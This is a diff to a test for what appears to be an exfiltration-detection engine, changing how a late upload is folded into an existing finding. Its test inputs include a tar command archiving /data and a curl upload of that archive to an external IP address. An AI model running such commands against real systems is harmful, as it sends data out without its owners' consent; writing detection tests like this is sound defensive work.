@@ -116,8 +116,9 @@ def test_transfer_after_the_window() -> None:
             launch("curl -T /tmp/a.tgz https://203.0.113.5/u", time=1000 + 900 + 1801, ctr=ctr),
         ]
     )
-    # Beyond it, the name still joins them, as a finding of its own.
-    assert [(f.analytic.uid, f.revision) for f in later] == [(CREATED, 0), (EXFIL, 0)]
+    # Beyond it, the name still joins them (for a day): an update of the same finding.
+    assert [(f.analytic.uid, f.revision) for f in later] == [(CREATED, 0), (EXFIL, 1)]
+    assert later[0].uid == later[1].uid
     longer = run(
         [
             launch("tar -czf /tmp/a.tgz /data", time=1000, ctr=ctr),
